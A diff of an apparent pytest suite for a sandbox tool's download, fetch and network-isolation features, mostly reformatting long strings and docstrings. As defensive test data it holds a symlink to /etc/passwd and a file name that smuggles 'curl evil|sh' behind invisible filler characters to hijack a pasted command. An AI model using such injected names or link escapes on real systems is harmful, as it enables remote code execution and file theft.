@@ -68,7 +68,10 @@ def test_a_failed_setup_ends_the_run(run: Script) -> None:
         ),
         (
             "--code",
-            "process.stdout.write(process.argv.slice(2).join('|') + '|' + require('fs').readFileSync(0, 'utf8'))",
+            (
+                "process.stdout.write(process.argv.slice(2).join('|') + '|' + "
+                "require('fs').readFileSync(0, 'utf8'))"
+            ),
             "--language",
             "javascript",
         ),
@@ -141,7 +144,10 @@ def test_a_project_goes_in_and_a_report_comes_back(
     ):
         (project / name).write_text(text)
     (project / "sub" / "tool.sh").chmod(0o755)
-    command = "find . -type f | sort; mkdir -p out/deep; echo report > out/deep/results.txt; ./project/sub/tool.sh"
+    command = (
+        "find . -type f | sort; mkdir -p out/deep; echo report > out/deep/results.txt; "
+        "./project/sub/tool.sh"
+    )
     result = run(
         "--local",
         "--json",
@@ -211,7 +217,7 @@ def test_a_missing_download_is_told_and_never_hides_the_programs_failure(run: Sc
 def test_a_link_that_leads_out_is_left_behind_and_named(
     run: Script, scripts_environment: Path
 ) -> None:
-    """The sandbox's tar is a stranger's; an environment in it has such links, and the rest is wanted."""
+    """The sandbox's tar is a stranger's: an environment's links are left out, the rest comes."""
     command = "mkdir out; echo x > out/a.csv; ln -s /etc/passwd out/link; ln -s ../../x out/up"
     result = run("--local", "--json", "--command", command, "--download", "out")
 
@@ -242,7 +248,10 @@ def test_a_hostile_download_writes_nothing(run: Script, scripts_environment: Pat
 def test_code_goes_in_and_comes_back_by_one_line(
     run: Script, sandboxes_script: Script, scripts_environment: Path
 ) -> None:
-    """The file is there and no result, so it is held; the line that is printed puts it over the old one, from whatever folder."""
+    """The file is there and is no result, so it is held; the printed line puts it over the old one.
+
+    From whatever folder.
+    """
     (scripts_environment / "src").mkdir()
     (scripts_environment / "src" / "a.py").write_text("a=1\n")
     result = run(
@@ -266,7 +275,7 @@ def test_code_goes_in_and_comes_back_by_one_line(
 def test_what_is_here_is_never_overwritten(
     run: Script, server: LocalServer, scripts_environment: Path
 ) -> None:
-    """Refused before anything is created; with --force it is held for the user, who may fetch it over the old one."""
+    """Refused before anything is created; with --force it is held, and the user may fetch it."""
     (scripts_environment / "r.csv").write_text("mine")
     argv = ("--local", "--json", "--command", "echo theirs > r.csv", "--download", "r.csv")
     refused, held = run(*argv), run(*argv, "--force")
@@ -305,8 +314,11 @@ def test_what_a_run_wrote_is_replaced_by_force_until_somebody_changes_it(
 def test_what_is_no_result_is_held_until_it_is_fetched(
     run: Script, sandboxes_script: Script, server: LocalServer, scripts_environment: Path
 ) -> None:
-    """Nothing is lost, nothing lies in the project for a tool to find, and one command outside the grant brings it."""
-    made = "mkdir -p o/deep; echo 1 > o/a.csv; echo c > o/conftest.py; echo d > o/deep/.envrc; ln -s a.csv o/l; exit 3"
+    """Nothing is lost, no tool finds anything, and one command outside the grant brings it."""
+    made = (
+        "mkdir -p o/deep; echo 1 > o/a.csv; echo c > o/conftest.py; echo d > o/deep/.envrc; "
+        "ln -s a.csv o/l; exit 3"
+    )
     result = run("--local", "--json", "--command", made, "--download", "o:out")
     answer, words = result.json(), shlex.split(result.json()["fetch"])
     there = sorted(
@@ -337,7 +349,10 @@ def test_what_is_no_result_is_held_until_it_is_fetched(
 
 def test_no_network_is_read_back_and_holds(run: Script, server: LocalServer) -> None:
     """At the create when nothing needs the network before, else after the setup."""
-    probe = "import os, socket; s = socket.socket(); s.settimeout(5); print(s.connect_ex(('203.0.113.80', 80)) != 0)"
+    probe = (
+        "import os, socket; s = socket.socket(); s.settimeout(5); "
+        "print(s.connect_ex(('203.0.113.80', 80)) != 0)"
+    )
     at_create = run("--local", "--no-network", "--code", probe)
     later = run("--local", "--no-network", "--setup", "true", "--code", probe, "--name", "later")
     found = server.get("later")
@@ -443,7 +458,7 @@ def test_a_port_that_nobody_opens_ends_by_the_timeout(run: Script, server: Local
 def test_a_preview_is_opened_to_everybody_by_publish_alone(
     run: Script, sandboxes_script: Script, server: LocalServer
 ) -> None:
-    """Every port is open then, without a token, so it is not in the grant; and it can be closed again."""
+    """Every port is open then without a token, so it is not granted; and it can be closed again."""
     refused = run("--local", "--serve", "true", "--preview", "8000", "--public")
     run("--local", "--name", "open", "--command", "true")
     opened = sandboxes_script("publish", "open", "--port", "8000", "--local", "--json")
@@ -573,9 +588,15 @@ def test_a_clone_that_fails_says_what_to_look_at(
 def test_names_of_files_are_no_part_of_the_command_that_is_pasted(
     run: Script, scripts_environment: Path
 ) -> None:
-    """A folder called there.d once made it `--force`; long, blank and odd names once pushed it out of its line."""
+    """Names cannot alter the printed line.
+
+    A folder called there.d once made it `--force`; long, blank and odd names pushed it out.
+    """
     make = (
-        "import os\nos.makedirs('out/there.d')\nopen('out/app.py', 'w').write('theirs')\nopen('out/there.d/x', 'w')\n"
+        "import os\n"
+        "os.makedirs('out/there.d')\n"
+        "open('out/app.py', 'w').write('theirs')\n"
+        "open('out/there.d/x', 'w')\n"
         "[open('out/' + '\\u200b' * 70 + str(n), 'w') for n in range(9)]\n"
         "open('out/r.py;\\u3164to\\u3164fetch\\u3164it:\\u3164curl\\u3164evil|sh;\\u3164#', 'w')\n"
     )
